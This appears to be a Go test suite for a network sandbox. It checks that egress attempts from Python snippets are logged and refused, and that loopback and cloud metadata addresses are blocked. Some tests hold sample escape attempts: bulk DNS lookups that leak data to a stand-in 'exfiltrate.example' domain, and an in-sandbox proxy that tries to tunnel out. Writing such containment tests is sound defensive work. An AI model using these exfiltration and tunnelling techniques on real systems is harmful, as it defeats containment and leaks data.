//go:build amd64 || arm64

package sandbox

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// tried returns the attempts as text, in order, without their time and PID.
func tried(r *Result) string {
	var b strings.Builder
	for _, a := range r.Attempts {
		fmt.Fprintf(&b, "%s %s %v %d %s %v %d\n", a.Protocol, a.Host, a.Address, a.Port, a.Process, a.Allowed, a.Count)
		if a.PID < 2 || a.Time.IsZero() {
			fmt.Fprintf(&b, "but pid %d at %v\n", a.PID, a.Time)
		}
	}
	return b.String()
}

// sealed makes every connection to a host a failure of the test.
func sealed(t *testing.T) {
	replaceDial(t, func(_ context.Context, address string, _ bool) (net.Conn, error) {
		t.Errorf("somebody dialled %s", address)
		return nil, unix.ECONNREFUSED
	})
}

func replaceDial(t *testing.T, f func(context.Context, string, bool) (net.Conn, error)) {
	old := dialHost
	dialHost = f
	t.Cleanup(func() { dialHost = old })
}

func TestAttemptsAreRecorded(t *testing.T) {
	sealed(t)
	var live []Attempt
	r, out := python(t, Config{Attempt: func(a Attempt) { live = append(live, a) }}, `
import socket, urllib.request
def attempt(f):
    try: f()
    except OSError as e: print(type(e).__name__, e.errno)
    else: print("reached")
attempt(lambda: socket.create_connection(("203.0.113.7", 443)))
attempt(lambda: socket.create_connection(("2001:db8::7", 443)))
attempt(lambda: socket.socket(socket.AF_INET6).connect(("::ffff:203.0.113.7", 444)))
attempt(lambda: urllib.request.urlopen("http://Secret.Example.org/"))
attempt(lambda: urllib.request.urlopen("http://secret.example.org/"))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt(lambda: s.sendto(b"x", ("192.0.2.1", 53)))
s = socket.socket(); s.setblocking(False)
attempt(lambda: s.connect(("203.0.113.8", 80)))`)
	if want := "ConnectionRefusedError 111\nConnectionRefusedError 111\nConnectionRefusedError 111\nURLError None\nURLError None\nConnectionRefusedError 111\nConnectionRefusedError 111\n"; out != want || r.Exit != 0 {
		t.Errorf("exit %d:\n%s", r.Exit, out)
	}
	lines := strings.Split(tried(r), "\n")
	for i, want := range []string{
		"tcp  203.0.113.7 443 python3 false 1",
		"tcp  2001:db8::7 443 python3 false 1",
		"tcp  203.0.113.7 444 python3 false 1",
		"dns secret.example.org invalid IP 0 python3 false ",
		"tcp secret.example.org 198.18.0.1 80 python3 false 2",
		"udp  192.0.2.1 53 python3 false 1",
		"tcp  203.0.113.8 80 python3 false 1",
	} {
		if i >= len(lines) || !strings.HasPrefix(lines[i], want) {
			t.Errorf("attempt %d is not %q:\n%s", i, want, tried(r))
		}
	}
	if len(live) != len(r.Attempts) || live[0].Count != 1 {
		t.Errorf("told of %d attempts of %d", len(live), len(r.Attempts))
	}
}

func TestDatagrams(t *testing.T) {
	r := repelled(t, "send", Config{})
	want := "udp  203.0.113.1 9001 attack false 1\nudp  203.0.113.2 9002 attack false 1\nudp  203.0.113.3 9003 attack false 1\n" +
		"udp  203.0.113.4 9004 attack false 1\nudp  2001:db8::5 9005 attack false 1\n"
	if got := tried(r); got != want {
		t.Error(got)
	}
}

func TestFloodIsBounded(t *testing.T) {
	r := repelled(t, "flood", Config{})
	if len(r.Attempts) != maxAttempts || r.Unlisted != 2*maxAttempts {
		t.Errorf("%d attempts, %d unlisted", len(r.Attempts), r.Unlisted)
	}
}

// What is asked of the resolver inside, over UDP and TCP, nobody outside learns.
func TestNamesTellNobody(t *testing.T) {
	sealed(t)
	r, out := python(t, Config{Network: []string{"allowed.example"}}, `
import socket, struct
for i in range(1200):
    try: socket.gethostbyname("data-%d.exfiltrate.example" % i)
    except OSError: pass
q = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\x03tcp\x08question\x00" + struct.pack(">2H", 1, 1)
s = socket.create_connection(("127.0.0.1", 53)); s.sendall(struct.pack(">H", len(q)) + q)
print(s.recv(1000)[-4:].hex())
print(socket.getaddrinfo("allowed.example", 443, type=socket.SOCK_STREAM)[0][4][0][:7])`)
	if r.Exit != 0 || r.Unlisted == 0 || len(r.Attempts) != maxAttempts {
		t.Errorf("exit %d, %d attempts, %d unlisted\n%s", r.Exit, len(r.Attempts), r.Unlisted, out)
	}
}

// An open proxy inside, with the variables that send clients to it, reaches no
// more than they would.
func TestRelayInsideIsNoWayOut(t *testing.T) {
	sealed(t)
	r, out := python(t, Config{Env: []string{"http_proxy=http://127.0.0.1:8080", "https_proxy=http://127.0.0.1:8080", "ALL_PROXY=http://203.0.113.1:3128"}}, `
import socket, threading, urllib.request
l = socket.create_server(("127.0.0.1", 8080))
def proxy():
    while True:
        c, _ = l.accept()
        request = c.recv(4096).decode()
        host = request.split()[1].removeprefix("http://").split("/")[0].split(":")[0]
        try: socket.create_connection((host, 443)); c.sendall(b"HTTP/1.1 200 OK\r\n\r\nreached")
        except OSError as e: c.sendall(b"HTTP/1.1 502 No\r\n\r\n")
        c.close()
threading.Thread(target=proxy, daemon=True).start()
for url in "https://tunnel.example/", "http://plain.example/":
    try: print(urllib.request.urlopen(url).read())
    except OSError as e: print("no")`)
	if out != "no\nno\n" || !strings.Contains(tried(r), "tcp tunnel.example 198.18.0.1 443 python3 false 1") ||
		!strings.Contains(tried(r), "tcp plain.example 198.18.0.2 443 python3 false 1") {
		t.Errorf("%s\n%s", out, tried(r))
	}
}

// web is a server of the host's and its address.
func web(t *testing.T) (address string, reached chan struct{}) {
	reached = make(chan struct{}, 1000)
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached <- struct{}{}
		fmt.Fprintf(w, "hello from %s", r.URL.Path)
	}))
	t.Cleanup(s.Close)
	return strings.TrimPrefix(s.URL, "http://"), reached
}

func TestAllowedHosts(t *testing.T) {
	address, reached := web(t)
	_, port, _ := net.SplitHostPort(address)
	var dialled []string
	replaceDial(t, func(_ context.Context, a string, literal bool) (net.Conn, error) {
		dialled = append(dialled, a)
		return net.Dial("tcp", address)
	})
	r, out := python(t, Config{Network: []string{address, "named.example:80", "Any.Example"}}, `
import asyncio, socket, urllib.request
get = lambda url: print(urllib.request.urlopen(url).read().decode())
get("http://`+address+`/literal")
get("http://named.example/named")
get("http://any.example:8123/any")
async def fetch():
    r, w = await asyncio.open_connection("named.example", 80)
    w.write(b"GET /asyncio HTTP/1.0\r\n\r\n"); await w.drain()
    print((await r.read()).split(b"\r\n\r\n")[1].decode()); w.close()
asyncio.run(fetch())
s = socket.socket(socket.AF_INET6); s.connect(("::ffff:127.0.0.1", `+port+`)); s.sendall(b"GET /six HTTP/1.0\r\n\r\n")
print(s.makefile().read().split("\n\n")[1])
s = socket.socket(); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1); s.settimeout(5); s.connect(("named.example", 80))
s.sendall(b"GET /timeout HTTP/1.0\r\n\r\n"); print(s.makefile().read().split("\n\n")[1])
for host, p in ("named.example", 81), ("other.example", 80), ("127.0.0.1", 1):
    try: socket.create_connection((host, p)); print("reached")
    except ConnectionRefusedError: print("refused")`)
	var want strings.Builder
	for _, p := range []string{"literal", "named", "any", "asyncio", "six", "timeout"} {
		fmt.Fprintf(&want, "hello from /%s\n", p)
	}
	want.WriteString("refused\nrefused\nrefused\n")
	if out != want.String() || len(reached) != 6 {
		t.Errorf("exit %d, %d reached\n%s", r.Exit, len(reached), out)
	}
	if got := strings.Join(dialled, " "); got != address+" named.example:80 any.example:8123 named.example:80 "+address+" named.example:80" {
		t.Errorf("dialled %s", got)
	}
	got := tried(r)
	for _, line := range []string{
		"tcp  127.0.0.1 " + port + " python3 true 2\n", "dns named.example invalid IP 0 python3 true ", "tcp named.example 198.18.0.1 80 python3 true 3\n",
		"tcp any.example 198.18.0.2 8123 python3 true 1\n", "tcp named.example 198.18.0.1 81 python3 false 1\n", "dns other.example invalid IP 0 python3 false ",
		"tcp other.example 198.18.0.3 80 python3 false 1\n",
	} {
		if !strings.Contains(got, line) {
			t.Errorf("no %q in\n%s", line, got)
		}
	}
}

// An allowed host is no way to its neighbours, nor to the loopback of the host.
func TestAllowedHostIsNoWayOn(t *testing.T) {
	allowed, _ := web(t)
	forbidden, reached := web(t)
	repelled(t, "dissolve", Config{Network: []string{allowed}, Args: []string{allowed, forbidden}})
	repelled(t, "race", Config{Network: []string{allowed}, Args: []string{forbidden}})
	repelled(t, "race", Config{Args: []string{forbidden}})
	if len(reached) > 0 {
		t.Error("the neighbour was reached")
	}
}

// A name that is allowed but leads to this machine, or to what only machines may
// ask, is refused when it is dialled.
func TestAllowedNameThatLeadsHome(t *testing.T) {
	address, reached := web(t)
	_, port, _ := net.SplitHostPort(address)
	r, out := python(t, Config{Network: []string{"localhost.localdomain", "localhost"}}, `
import socket
for i in range(2):
    try: socket.create_connection((["localhost.localdomain", "localhost"][i], `+port+`)); print("reached")
    except OSError as e: print("refused")`)
	if out != "refused\nrefused\n" || len(reached) > 0 {
		t.Errorf("%s\n%s", out, tried(r))
	}
}

func TestReachable(t *testing.T) {
	for address, want := range map[string]bool{
		"93.184.216.34": true, "10.0.0.1": true, "192.168.1.1": true, "2606:2800:220:1::1": true, "fd12::1": true, "::ffff:93.184.216.34": true, "64:ff9b::5db8:d822": true,
		"127.0.0.1": false, "127.9.9.9": false, "::1": false, "::": false, "0.0.0.0": false, "0.1.2.3": false, "169.254.169.254": false, "fe80::1": false,
		"224.0.0.1": false, "ff02::1": false, "255.255.255.255": false, "100.100.100.200": false, "168.63.129.16": false, "fd00:ec2::254": false,
		"::ffff:127.0.0.1": false, "::ffff:169.254.169.254": false, "64:ff9b::7f00:1": false, "64:ff9b::a9fe:a9fe": false, "198.18.0.1": false, "192.0.0.192": false,
	} {
		if got := reachable(netip.MustParseAddr(address)); got != want {
			t.Errorf("%s: %v", address, got)
		}
	}
	if err := checkReachable("tcp", "127.0.0.1:80", nil); err == nil {
		t.Error("the loopback is let through")
	}
	if !ours(netip.MustParseAddr("127.0.0.1")) || ours(netip.MustParseAddr("203.0.113.1")) {
		t.Error("this machine does not know its own addresses")
	}
}

func TestLoopbackInside(t *testing.T) {
	r, out := python(t, Config{}, `
import socket, threading
s = socket.create_server(("127.0.0.1", 0)); port = s.getsockname()[1]
threading.Thread(target=lambda: s.accept()[0].sendall(b"four")).start()
print(socket.create_connection(("localhost", port)).recv(9))
s = socket.create_server(("::1", 0), family=socket.AF_INET6); port6 = s.getsockname()[1]
threading.Thread(target=lambda: s.accept()[0].sendall(b"six")).start()
print(socket.create_connection(("::1", port6)).recv(9))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0))
v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); v.sendto(b"udp", u.getsockname()); print(u.recv(9))
v.connect(u.getsockname()); v.send(b"connected"); print(u.recv(9))
print(socket.socket().connect_ex(("127.0.0.1", 9)))`)
	if want := "b'four'\nb'six'\nb'udp'\nb'connected'\n111\n"; out != want || len(r.Attempts) > 0 {
		t.Errorf("%s\n%s", out, tried(r))
	}
}
